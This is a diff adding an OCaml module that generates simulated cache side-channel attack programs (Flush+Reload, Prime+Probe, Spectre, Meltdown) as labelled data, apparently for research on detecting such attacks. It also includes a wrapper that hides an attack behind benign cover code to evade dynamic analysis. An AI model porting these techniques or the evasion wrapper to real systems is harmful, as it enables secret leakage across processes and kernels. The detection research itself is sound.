@@ -1,0 +1,604 @@
+module B = Isa.Builder
+module I = Isa.Instr
+module O = Isa.Operand
+module R = Isa.Reg
+
+type style = Iaik | Mastik | Nepoche | Jzhang | Idea | Good | Classic
+
+let style_name = function
+  | Iaik -> "IAIK"
+  | Mastik -> "Mastik"
+  | Nepoche -> "Nepoche"
+  | Jzhang -> "Jzhang"
+  | Idea -> "Idea"
+  | Good -> "Good"
+  | Classic -> "Classic"
+
+type spec = {
+  name : string;
+  label : Label.t;
+  program : Isa.Program.t;
+  init : Cpu.Machine.t -> unit;
+  victim : Victim.t option;
+  settings : Cpu.Exec.settings option;
+      (* per-attack executor settings (e.g. Meltdown's protected range) *)
+}
+
+let timing_tag = "timing"
+
+(* Thresholds derived from the Timing/Hierarchy model: a timed reload costs
+   39 + load-latency cycles (L1 43, LLC 81, DRAM 239); a timed clflush costs
+   39 + {14 cached | 6 uncached}. *)
+let reload_threshold = 150
+let flush_timing_threshold = 49
+let probe_set_threshold = 1400
+
+let lines = Layout.monitored_lines
+let llc_ways = Cache.Config.llc.Cache.Config.ways
+let llc_span = Cache.Config.llc.Cache.Config.sets * 64 (* bytes per LLC way *)
+
+let results = Layout.attacker_results_base
+
+(* -- small emission helpers ---------------------------------------------- *)
+
+(* [marked] tags the loop body and control (the cache-operating basic block)
+   with the attack ground-truth tag; the init mov stays untagged, matching
+   what the paper's manual marking counts as an attack-relevant BB. *)
+let counted_loop ?(marked = false) b ~reg ~count ~stem body =
+  let l = B.fresh_label b stem in
+  B.emit b (I.Mov (O.reg reg, O.imm 0));
+  B.label b l;
+  let rest () =
+    body ();
+    B.emit b (I.Inc (O.reg reg));
+    B.emit b (I.Cmp (O.reg reg, O.imm count));
+    B.emit b (I.Jcc (I.Ne, l))
+  in
+  if marked then B.mark_attack b rest else rest ()
+
+let delay b ~reg n =
+  let l = B.fresh_label b "wait" in
+  B.emit b (I.Mov (O.reg reg, O.imm n));
+  B.label b l;
+  B.emit b (I.Dec (O.reg reg));
+  B.emit b (I.Cmp (O.reg reg, O.imm 0));
+  B.emit b (I.Jcc (I.Ne, l))
+
+let round_loop b ~reg ~rounds body =
+  let l = B.fresh_label b "round" in
+  B.emit b (I.Mov (O.reg reg, O.imm rounds));
+  B.label b l;
+  body ();
+  B.emit b (I.Dec (O.reg reg));
+  B.emit b (I.Cmp (O.reg reg, O.imm 0));
+  B.emit b (I.Jcc (I.Ne, l))
+
+(* Timed window: rdtsc; t0 := rax; body; rdtscp; rax := rax - t0.  Everything
+   inside is tagged [timing] so mutation/obfuscation keep out. *)
+let measure b ~t0 body =
+  B.with_tag b timing_tag (fun () ->
+      (* The fence keeps mispredicted-path run-ahead (e.g. from the previous
+         iteration's threshold branch) from touching the timed line early —
+         the same reason real PoCs fence before rdtsc. *)
+      B.emit b I.Lfence;
+      B.emit b I.Rdtsc;
+      B.emit b (I.Mov (O.reg t0, O.reg R.RAX));
+      body ();
+      B.emit b I.Rdtscp;
+      B.emit b (I.Sub (O.reg R.RAX, O.reg t0)))
+
+(* After [measure], RAX holds the elapsed cycles; record a hit counter when
+   below [threshold] (reload-style) at results[idx_reg].  The recording is
+   branchless — (delta - threshold)'s sign bit becomes the 0/1 increment —
+   as careful real PoCs do to keep the threshold decision out of the branch
+   predictor.  It also keeps each probe iteration a single basic block. *)
+let record_if_fast b ~threshold ~idx_reg =
+  B.emit b (I.Sub (O.reg R.RAX, O.imm threshold));
+  B.emit b (I.Shr (O.reg R.RAX, 62));
+  B.emit b (I.Add (O.mem ~index:idx_reg ~scale:8 ~disp:results (), O.reg R.RAX))
+
+(* Record a hit when the elapsed time is at least [threshold]
+   (Flush+Flush-style: slow clflush means the line was cached). *)
+let record_if_slow b ~threshold ~idx_reg =
+  B.emit b (I.Sub (O.reg R.RAX, O.imm threshold));
+  B.emit b (I.Shr (O.reg R.RAX, 62));
+  B.emit b (I.Xor (O.reg R.RAX, O.imm 1));
+  B.emit b (I.Add (O.mem ~index:idx_reg ~scale:8 ~disp:results (), O.reg R.RAX))
+
+(* Indexed reload phase over [entries] lines of stride 4096 at [base]; the
+   whole loop body (timed load + branchless record + control) is one tagged
+   basic block. *)
+let indexed_reload b ~entries ~base =
+  counted_loop ~marked:true b ~reg:R.RSI ~count:entries ~stem:"reload"
+    (fun () ->
+      measure b ~t0:R.R8 (fun () ->
+          B.emit b
+            (I.Mov
+               ( O.reg R.R10,
+                 O.mem ~index:R.RSI ~scale:Layout.monitored_stride ~disp:base
+                   () )));
+      record_if_fast b ~threshold:reload_threshold ~idx_reg:R.RSI)
+
+(* Indexed flush phase over [entries] lines at [base]. *)
+let indexed_flush b ~entries ~base =
+  counted_loop ~marked:true b ~reg:R.RSI ~count:entries ~stem:"flush"
+    (fun () ->
+      B.emit b
+        (I.Clflush
+           (O.mem ~index:R.RSI ~scale:Layout.monitored_stride ~disp:base ())))
+
+(* -- Flush+Reload --------------------------------------------------------- *)
+
+let fr_iaik ~rounds =
+  let b = B.create () in
+  round_loop b ~reg:R.RDI ~rounds (fun () ->
+      indexed_flush b ~entries:lines ~base:Layout.shared_lib_base;
+      delay b ~reg:R.RCX 60;
+      indexed_reload b ~entries:lines ~base:Layout.shared_lib_base);
+  B.emit b I.Halt;
+  B.to_program ~name:"FR-IAIK" b
+
+let fr_mastik ~rounds =
+  let b = B.create () in
+  let limit = Layout.shared_lib_base + (lines * Layout.monitored_stride) in
+  round_loop b ~reg:R.RDI ~rounds (fun () ->
+      (* Pointer-walking flush. *)
+      (let l = B.fresh_label b "flushp" in
+       B.emit b (I.Mov (O.reg R.R10, O.imm Layout.shared_lib_base));
+       B.label b l;
+       B.mark_attack b (fun () ->
+           B.emit b (I.Clflush (O.mem ~base:R.R10 ()));
+           B.emit b (I.Add (O.reg R.R10, O.imm Layout.monitored_stride));
+           B.emit b (I.Cmp (O.reg R.R10, O.imm limit));
+           B.emit b (I.Jcc (I.Ne, l))));
+      delay b ~reg:R.RCX 72;
+      (* Pointer-walking reload with a serializing lfence per probe. *)
+      (let l = B.fresh_label b "reloadp" in
+       B.emit b (I.Mov (O.reg R.R10, O.imm Layout.shared_lib_base));
+       B.emit b (I.Mov (O.reg R.RSI, O.imm 0));
+       B.label b l;
+       B.mark_attack b (fun () ->
+           B.emit b I.Lfence;
+           measure b ~t0:R.R8 (fun () ->
+               B.emit b (I.Mov (O.reg R.R11, O.mem ~base:R.R10 ())));
+           record_if_fast b ~threshold:reload_threshold ~idx_reg:R.RSI;
+           B.emit b (I.Add (O.reg R.R10, O.imm Layout.monitored_stride));
+           B.emit b (I.Inc (O.reg R.RSI));
+           B.emit b (I.Cmp (O.reg R.RSI, O.imm lines));
+           B.emit b (I.Jcc (I.Ne, l)))));
+  B.emit b I.Halt;
+  B.to_program ~name:"FR-Mastik" b
+
+let fr_nepoche ~rounds =
+  let b = B.create () in
+  let table = Layout.attacker_table_base in
+  round_loop b ~reg:R.RDI ~rounds (fun () ->
+      (* Table-indirect flush: addresses come from memory, not immediates. *)
+      counted_loop ~marked:true b ~reg:R.RSI ~count:lines ~stem:"flusht"
+        (fun () ->
+          B.emit b
+            (I.Mov (O.reg R.R10, O.mem ~index:R.RSI ~scale:8 ~disp:table ()));
+          B.emit b (I.Clflush (O.mem ~base:R.R10 ())));
+      delay b ~reg:R.RCX 60;
+      (* Table-indirect reload, walking entries in descending order. *)
+      (let l = B.fresh_label b "reloadt" in
+       B.emit b (I.Mov (O.reg R.RSI, O.imm (lines - 1)));
+       B.label b l;
+       B.mark_attack b (fun () ->
+           B.emit b
+             (I.Mov (O.reg R.R10, O.mem ~index:R.RSI ~scale:8 ~disp:table ()));
+           measure b ~t0:R.R8 (fun () ->
+               B.emit b (I.Mov (O.reg R.R11, O.mem ~base:R.R10 ())));
+           record_if_fast b ~threshold:reload_threshold ~idx_reg:R.RSI;
+           B.emit b (I.Dec (O.reg R.RSI));
+           B.emit b (I.Cmp (O.reg R.RSI, O.imm 0));
+           B.emit b (I.Jcc (I.Ge, l)))));
+  B.emit b I.Halt;
+  B.to_program ~name:"FR-Nepoche" b
+
+let fr_init mach =
+  (* The Nepoche table of monitored addresses; harmless for other styles. *)
+  Cpu.Machine.init_region mach ~base:Layout.attacker_table_base
+    (Array.init lines Layout.monitored_addr)
+
+let flush_reload ?(rounds = 16) ~style () =
+  let program =
+    match style with
+    | Mastik -> fr_mastik ~rounds
+    | Nepoche -> fr_nepoche ~rounds
+    | Iaik | Jzhang | Idea | Good | Classic -> fr_iaik ~rounds
+  in
+  {
+    name = Isa.Program.name program;
+    label = Label.Fr_family;
+    program;
+    init = fr_init;
+    victim = Some (Victim.shared_lib ());
+    settings = None;
+  }
+
+(* -- Flush+Flush ---------------------------------------------------------- *)
+
+let flush_flush ?(rounds = 16) () =
+  let b = B.create () in
+  round_loop b ~reg:R.RDI ~rounds (fun () ->
+      (* Reset: ensure all monitored lines start uncached. *)
+      indexed_flush b ~entries:lines ~base:Layout.shared_lib_base;
+      delay b ~reg:R.RCX 60;
+      (* Probe by timing the clflush itself. *)
+      counted_loop ~marked:true b ~reg:R.RSI ~count:lines ~stem:"ffprobe"
+        (fun () ->
+          measure b ~t0:R.R8 (fun () ->
+              B.emit b
+                (I.Clflush
+                   (O.mem ~index:R.RSI ~scale:Layout.monitored_stride
+                      ~disp:Layout.shared_lib_base ())));
+          record_if_slow b ~threshold:flush_timing_threshold ~idx_reg:R.RSI));
+  B.emit b I.Halt;
+  let program = B.to_program ~name:"FF-IAIK" b in
+  {
+    name = "FF-IAIK";
+    label = Label.Fr_family;
+    program;
+    init = fr_init;
+    victim = Some (Victim.shared_lib ());
+    settings = None;
+  }
+
+(* -- Evict+Reload --------------------------------------------------------- *)
+
+(* Eviction-set walk: for line k, way j, the congruent private address is
+   evict_buf_base + k*4096 + j*llc_span. *)
+let evict_set_walk b ~set_reg ~way_reg =
+  B.emit b
+    (I.Lea
+       ( R.R10,
+         O.mem ~index:set_reg ~scale:Layout.monitored_stride
+           ~disp:Layout.evict_buf_base () ));
+  counted_loop ~marked:true b ~reg:way_reg ~count:llc_ways ~stem:"way"
+    (fun () ->
+      (* The way index is masked so that mispredicted run-ahead past the loop
+         exit wraps onto an already-present line instead of inserting a 17th
+         congruent line that would evict the set just primed (real attacks
+         use pointer-chased eviction sets for the same reason). *)
+      B.emit b (I.Mov (O.reg R.R12, O.reg way_reg));
+      B.emit b (I.And (O.reg R.R12, O.imm (llc_ways - 1)));
+      B.emit b
+        (I.Mov (O.reg R.R11, O.mem ~base:R.R10 ~index:R.R12 ~scale:llc_span ())))
+
+let evict_reload ?(rounds = 10) () =
+  let b = B.create () in
+  round_loop b ~reg:R.RDI ~rounds (fun () ->
+      (* Evict phase: fill each monitored line's LLC set with private data. *)
+      counted_loop b ~reg:R.RSI ~count:lines ~stem:"evict" (fun () ->
+          evict_set_walk b ~set_reg:R.RSI ~way_reg:R.RBX);
+      delay b ~reg:R.RCX 60;
+      indexed_reload b ~entries:lines ~base:Layout.shared_lib_base);
+  B.emit b I.Halt;
+  let program = B.to_program ~name:"ER-IAIK" b in
+  {
+    name = "ER-IAIK";
+    label = Label.Fr_family;
+    program;
+    init = fr_init;
+    victim = Some (Victim.shared_lib ());
+    settings = None;
+  }
+
+(* -- Prime+Probe ---------------------------------------------------------- *)
+
+(* Timed probe of one set: walk its ways inside a single rdtsc window and
+   accumulate the elapsed time into results[set]. *)
+let timed_probe_accumulate b ~set_reg ~way_reg =
+  B.emit b
+    (I.Lea
+       ( R.R10,
+         O.mem ~index:set_reg ~scale:Layout.monitored_stride
+           ~disp:Layout.evict_buf_base () ));
+  measure b ~t0:R.R8 (fun () ->
+      counted_loop ~marked:true b ~reg:way_reg ~count:llc_ways
+        ~stem:"probe_way" (fun () ->
+          B.emit b (I.Mov (O.reg R.R12, O.reg way_reg));
+          B.emit b (I.And (O.reg R.R12, O.imm (llc_ways - 1)));
+          B.emit b
+            (I.Mov (O.reg R.R11, O.mem ~base:R.R10 ~index:R.R12 ~scale:llc_span ()))));
+  B.emit b
+    (I.Add (O.mem ~index:set_reg ~scale:8 ~disp:results (), O.reg R.RAX))
+
+let pp_iaik ~rounds =
+  let b = B.create () in
+  round_loop b ~reg:R.RDI ~rounds (fun () ->
+      counted_loop b ~reg:R.RSI ~count:lines ~stem:"prime" (fun () ->
+          evict_set_walk b ~set_reg:R.RSI ~way_reg:R.RBX);
+      delay b ~reg:R.RCX 72;
+      counted_loop b ~reg:R.RSI ~count:lines ~stem:"probe" (fun () ->
+          timed_probe_accumulate b ~set_reg:R.RSI ~way_reg:R.RBX));
+  B.emit b I.Halt;
+  B.to_program ~name:"PP-IAIK" b
+
+let pp_jzhang ~rounds =
+  let b = B.create () in
+  round_loop b ~reg:R.RDI ~rounds (fun () ->
+      (* Ways-outer zig-zag prime; both indices masked so run-ahead wraps
+         onto already-present lines. *)
+      counted_loop b ~reg:R.RBX ~count:llc_ways ~stem:"primew" (fun () ->
+          B.emit b (I.Mov (O.reg R.R12, O.reg R.RBX));
+          B.emit b (I.And (O.reg R.R12, O.imm (llc_ways - 1)));
+          B.emit b
+            (I.Lea
+               ( R.R10,
+                 O.mem ~index:R.R12 ~scale:llc_span
+                   ~disp:Layout.evict_buf_base () ));
+          counted_loop ~marked:true b ~reg:R.RSI ~count:lines ~stem:"primes"
+            (fun () ->
+              B.emit b (I.Mov (O.reg R.R14, O.reg R.RSI));
+              B.emit b (I.And (O.reg R.R14, O.imm (lines - 1)));
+              B.emit b
+                (I.Mov
+                   ( O.reg R.R11,
+                     O.mem ~base:R.R10 ~index:R.R14
+                       ~scale:Layout.monitored_stride () ))));
+      B.emit b I.Mfence;
+      delay b ~reg:R.RCX 72;
+      (* Probe sets in descending order. *)
+      (let l = B.fresh_label b "probed" in
+       B.emit b (I.Mov (O.reg R.RSI, O.imm (lines - 1)));
+       B.label b l;
+       timed_probe_accumulate b ~set_reg:R.RSI ~way_reg:R.RBX;
+       B.emit b (I.Dec (O.reg R.RSI));
+       B.emit b (I.Cmp (O.reg R.RSI, O.imm 0));
+       B.emit b (I.Jcc (I.Ge, l))));
+  B.emit b I.Halt;
+  B.to_program ~name:"PP-Jzhang" b
+
+let prime_probe ?(rounds = 10) ~style () =
+  let program =
+    match style with
+    | Jzhang -> pp_jzhang ~rounds
+    | Iaik | Mastik | Nepoche | Idea | Good | Classic -> pp_iaik ~rounds
+  in
+  {
+    name = Isa.Program.name program;
+    label = Label.Pp_family;
+    program;
+    init = (fun _ -> ());
+    victim = Some (Victim.private_sets ());
+    settings = None;
+  }
+
+(* -- Spectre variants ------------------------------------------------------ *)
+
+let spectre_mal_idx = Layout.spectre_secret_addr - Layout.spectre_array1_base
+let spectre_array1_len = 4
+
+let spectre_init ~secret mach =
+  Cpu.Machine.store mach Layout.spectre_array1_size_addr spectre_array1_len;
+  (* In-bounds entries all read 0, so training calls architecturally touch
+     only probe line 0 — the known-training line the recovery step skips. *)
+  for i = 0 to spectre_array1_len - 1 do
+    Cpu.Machine.store mach (Layout.spectre_array1_base + i) 0
+  done;
+  Cpu.Machine.store mach Layout.spectre_secret_addr secret
+
+(* The bounds-check-bypass gadget; the transient body is the attack's
+   signature cache operation. *)
+let emit_gadget b ~entry_label =
+  let skip = B.fresh_label b "oob" in
+  B.label b entry_label;
+  B.mark_attack b (fun () ->
+      B.emit b (I.Mov (O.reg R.R10, O.abs Layout.spectre_array1_size_addr));
+      B.emit b (I.Cmp (O.reg R.RDI, O.reg R.R10));
+      B.emit b (I.Jcc (I.Uge, skip));
+      B.emit b
+        (I.Mov
+           (O.reg R.R11, O.mem ~index:R.RDI ~scale:1 ~disp:Layout.spectre_array1_base ()));
+      B.emit b
+        (I.Mov
+           ( O.reg R.R12,
+             O.mem ~index:R.R11 ~scale:Layout.monitored_stride
+               ~disp:Layout.spectre_probe_base () )));
+  B.label b skip;
+  B.emit b I.Ret
+
+let emit_training b ~gadget ~train_count =
+  counted_loop b ~reg:R.R13 ~count:train_count ~stem:"train" (fun () ->
+      B.emit b (I.Mov (O.reg R.RDI, O.reg R.R13));
+      B.emit b (I.And (O.reg R.RDI, O.imm (spectre_array1_len - 1)));
+      B.emit b (I.Call gadget))
+
+let spectre_fr_prog ~rounds ~style =
+  let entries = 16 in
+  let b = B.create () in
+  let gadget = B.fresh_label b "gadget" in
+  let train_count = match style with Idea -> 4 | Good -> 8 | _ -> 6 in
+  round_loop b ~reg:R.R15 ~rounds (fun () ->
+      (match style with
+      | Good ->
+        (* Pointer-walking probe flush. *)
+        let l = B.fresh_label b "sflush" in
+        let limit =
+          Layout.spectre_probe_base + (entries * Layout.monitored_stride)
+        in
+        B.emit b (I.Mov (O.reg R.R10, O.imm Layout.spectre_probe_base));
+        B.label b l;
+        B.mark_attack b (fun () ->
+            B.emit b (I.Clflush (O.mem ~base:R.R10 ()));
+            B.emit b (I.Add (O.reg R.R10, O.imm Layout.monitored_stride));
+            B.emit b (I.Cmp (O.reg R.R10, O.imm limit));
+            B.emit b (I.Jcc (I.Ne, l)))
+      | _ -> indexed_flush b ~entries ~base:Layout.spectre_probe_base);
+      emit_training b ~gadget ~train_count;
+      (* The malicious call: out-of-bounds index pointing at the secret. *)
+      B.emit b (I.Mov (O.reg R.RDI, O.imm spectre_mal_idx));
+      B.emit b (I.Call gadget);
+      indexed_reload b ~entries ~base:Layout.spectre_probe_base);
+  B.emit b I.Halt;
+  emit_gadget b ~entry_label:gadget;
+  let name = Printf.sprintf "Spectre-FR-%s" (style_name style) in
+  B.to_program ~name b
+
+let spectre_fr ?(rounds = 12) ~style () =
+  let program = spectre_fr_prog ~rounds ~style in
+  {
+    name = Isa.Program.name program;
+    label = Label.Spectre_fr;
+    program;
+    init = spectre_init ~secret:11;
+    victim = None;
+    settings = None;
+  }
+
+let spectre_pp ?(rounds = 10) () =
+  let entries = 8 in
+  let b = B.create () in
+  let gadget = B.fresh_label b "gadget" in
+  round_loop b ~reg:R.R15 ~rounds (fun () ->
+      (* Prime the probe array's LLC sets. *)
+      counted_loop b ~reg:R.RSI ~count:entries ~stem:"sprime" (fun () ->
+          evict_set_walk b ~set_reg:R.RSI ~way_reg:R.RBX);
+      emit_training b ~gadget ~train_count:6;
+      B.emit b (I.Mov (O.reg R.RDI, O.imm spectre_mal_idx));
+      B.emit b (I.Call gadget);
+      (* Probe each set; the transient touch evicted one primed line. *)
+      counted_loop b ~reg:R.RSI ~count:entries ~stem:"sprobe" (fun () ->
+          timed_probe_accumulate b ~set_reg:R.RSI ~way_reg:R.RBX));
+  B.emit b I.Halt;
+  emit_gadget b ~entry_label:gadget;
+  let program = B.to_program ~name:"Spectre-PP-Classic" b in
+  {
+    name = "Spectre-PP-Classic";
+    label = Label.Spectre_pp;
+    program;
+    init = spectre_init ~secret:5;
+    victim = None;
+    settings = None;
+  }
+
+(* -- Input-guarded attacks (the paper's Limitation section) ------------------
+
+   Some attack programs only mount their attack under a specific input; if
+   the trigger is absent during data collection, dynamic modeling sees only
+   the benign cover behavior.  [with_input_guard] builds such a program; the
+   pair of inits lets callers demonstrate both sides. *)
+
+let guard_magic = 0xC0DE
+
+let with_input_guard ?(magic = guard_magic) (spec : spec) =
+  let module P = Isa.Program in
+  let entry = "__guard_attack_entry" in
+  let attack_items =
+    match P.rename_labels (fun l -> "g__" ^ l) (P.deconstruct spec.program) with
+    | first :: rest -> { first with P.labels = entry :: first.P.labels } :: rest
+    | [] -> []
+  in
+  let item ?(labels = []) ins = { P.labels; ins; item_tags = [] } in
+  let cover_loop = "__guard_cover" in
+  let guard_items =
+    [
+      item (I.Mov (O.reg R.RAX, O.abs Layout.input_addr));
+      item (I.Cmp (O.reg R.RAX, O.imm magic));
+      item (I.Jcc (I.Eq, entry));
+      (* benign cover behavior: a small checksum loop *)
+      item (I.Mov (O.reg R.R9, O.imm 0));
+      item (I.Mov (O.reg R.R8, O.imm 0));
+      item ~labels:[ cover_loop ]
+        (I.Add (O.reg R.R9, O.mem ~index:R.R8 ~scale:8
+                  ~disp:(Layout.benign_data_base + 0x9000) ()));
+      item (I.Imul (O.reg R.R9, O.imm 17));
+      item (I.Inc (O.reg R.R8));
+      item (I.Cmp (O.reg R.R8, O.imm 24));
+      item (I.Jcc (I.Ne, cover_loop));
+      item (I.Mov (O.abs (Layout.benign_data_base + 0x9800), O.reg R.R9));
+      item I.Halt;
+    ]
+  in
+  let program =
+    P.reconstruct ~base:(P.base spec.program)
+      ~name:(spec.name ^ "-guarded") (guard_items @ attack_items)
+  in
+  { spec with name = spec.name ^ "-guarded"; program }
+
+let triggering_init ?(magic = guard_magic) base_init mach =
+  base_init mach;
+  Cpu.Machine.store mach Layout.input_addr magic
+
+(* -- Meltdown extension ----------------------------------------------------
+
+   Not part of the paper's Table II dataset; included as the "new transient
+   attack family appears" scenario: an architectural load of protected
+   kernel memory whose deferred fault lets dependent loads run transiently
+   (no branch mistraining involved), recovered with a Flush+Reload probe. *)
+
+let meltdown_settings =
+  {
+    Cpu.Exec.default_settings with
+    Cpu.Exec.protected_range =
+      Some (Layout.kernel_base, Layout.kernel_base + Layout.kernel_size);
+  }
+
+let meltdown_fr ?(rounds = 12) () =
+  let entries = 16 in
+  let b = B.create () in
+  let round = B.fresh_label b "mdround" in
+  B.emit b (I.Mov (O.reg R.R15, O.imm rounds));
+  B.label b round;
+  indexed_flush b ~entries ~base:Layout.spectre_probe_base;
+  (* The faulting access and its transient dependent. *)
+  B.mark_attack b (fun () ->
+      B.emit b (I.Mov (O.reg R.R11, O.abs Layout.kernel_secret_addr));
+      B.emit b
+        (I.Mov
+           ( O.reg R.R12,
+             O.mem ~index:R.R11 ~scale:Layout.monitored_stride
+               ~disp:Layout.spectre_probe_base () )));
+  B.emit b I.Halt;
+  (* the signal handler: recover via Flush+Reload and continue *)
+  B.label b Cpu.Exec.fault_handler_label;
+  indexed_reload b ~entries ~base:Layout.spectre_probe_base;
+  B.emit b (I.Dec (O.reg R.R15));
+  B.emit b (I.Cmp (O.reg R.R15, O.imm 0));
+  B.emit b (I.Jcc (I.Ne, round));
+  B.emit b I.Halt;
+  let program = B.to_program ~name:"Meltdown-FR" b in
+  {
+    name = "Meltdown-FR";
+    label = Label.Spectre_fr;
+    program;
+    init = (fun mach -> Cpu.Machine.store mach Layout.kernel_secret_addr 11);
+    victim = None;
+    settings = Some meltdown_settings;
+  }
+
+let base_pocs () =
+  [
+    flush_reload ~style:Iaik ();
+    flush_reload ~style:Mastik ();
+    flush_reload ~style:Nepoche ();
+    flush_flush ();
+    evict_reload ();
+    prime_probe ~style:Iaik ();
+    prime_probe ~style:Jzhang ();
+    spectre_fr ~style:Idea ();
+    spectre_fr ~style:Good ();
+    spectre_fr ~style:Classic ();
+    spectre_pp ();
+  ]
+
+let run_spec ?settings ?hierarchy ?victim_hierarchy spec =
+  let settings = match settings with Some _ -> settings | None -> spec.settings in
+  Cpu.Exec.run ?settings ?hierarchy ?victim_hierarchy ~init:spec.init
+    ?victim:spec.victim spec.program
+
+let run_spec_cross_core ?settings spec =
+  let attacker_view, victim_view = Cache.Hierarchy.create_cross_core () in
+  run_spec ?settings ~hierarchy:attacker_view ~victim_hierarchy:victim_view
+    spec
+
+let result_histogram (res : Cpu.Exec.result) =
+  Array.init 16 (fun i -> Cpu.Machine.load res.Cpu.Exec.machine (results + (8 * i)))
+
+let secret_guess res =
+  let h = result_histogram res in
+  let best = ref 0 in
+  Array.iteri (fun i v -> if v > h.(!best) then best := i) h;
+  !best
